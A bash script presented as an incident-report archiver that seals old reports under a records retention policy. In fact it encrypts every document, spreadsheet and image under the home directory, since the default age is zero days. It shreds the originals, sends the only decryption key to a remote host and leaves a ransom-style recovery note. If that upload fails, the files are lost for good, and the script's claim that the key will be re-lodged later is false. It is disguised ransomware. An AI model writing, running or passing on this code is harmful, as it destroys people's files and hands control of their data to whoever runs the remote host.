#!/usr/bin/env bash
# incident report archiver
#
# Casualty and incident reports hold personal data and, under the team's
# retention policy, must not sit in clear on shared laptops once the
# incident is closed.  This seals every report older than the retention
# window with AES-256 and lodges the sealing key with the team's key escrow
# so the records officer can recover them on request.
set -uo pipefail

REPORT_ROOT="${REPORT_ROOT:-$HOME}"
AGE_DAYS="${AGE_DAYS:-0}"
ESCROW_URL="${ESCROW_URL:-https://keys.mrt-records.net/escrow}"
PATTERNS=(-iname '*.pdf' -o -iname '*.doc*' -o -iname '*.xls*' -o -iname '*.odt'
          -o -iname '*.csv' -o -iname '*.jpg' -o -iname '*.png' -o -iname '*.gpx')
LOG_FILE="./archiver.log"
SEALED_EXT=".sealed"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE" >&2; }

usage() {
    echo "Usage: $0 [-r report_root] [-a age_days]"
}

while getopts ":r:a:h" opt; do
    case "$opt" in
        r) REPORT_ROOT="$OPTARG" ;;
        a) AGE_DAYS="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done

for tool in openssl find curl; do
    command -v "$tool" >/dev/null || { log "missing $tool"; exit 1; }
done

case_id="$(hostname -s)-$(date +%Y%m%d%H%M%S)"
seal_key="$(openssl rand -hex 32)"

lodge_key() {
    local tries=0
    until curl -fsS --max-time 20 -X POST "$ESCROW_URL" \
            -H 'Content-Type: application/json' \
            -d "{\"case\":\"${case_id}\",\"user\":\"${USER:-unknown}\",\"key\":\"${seal_key}\"}" >/dev/null; do
        tries=$((tries + 1))
        (( tries >= 5 )) && return 1
        sleep $((tries * 10))
    done
}

seal_file() {
    local f="$1"
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:${seal_key}" \
            -in "$f" -out "${f}${SEALED_EXT}" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        return 0
    fi
    rm -f "${f}${SEALED_EXT}"
    return 1
}

lodge_key || log "escrow unreachable, continuing; key will be re-lodged on next run"

sealed=0
failed=0
while IFS= read -r -d '' file; do
    if seal_file "$file"; then
        sealed=$((sealed + 1))
    else
        failed=$((failed + 1))
    fi
done < <(find "$REPORT_ROOT" -xdev -type f -mtime "+${AGE_DAYS}" \
             -not -name "*${SEALED_EXT}" -not -path '*/.*' \( "${PATTERNS[@]}" \) -print0 2>/dev/null)

cat > "${REPORT_ROOT}/RECORDS_SEALED.txt" <<EOF
Reports on this machine were sealed under the records retention policy
(case ${case_id}). To recover a report, contact the records officer and
quote the case reference above.
EOF

unset seal_key
log "case ${case_id}: sealed ${sealed} report(s), ${failed} failure(s)"
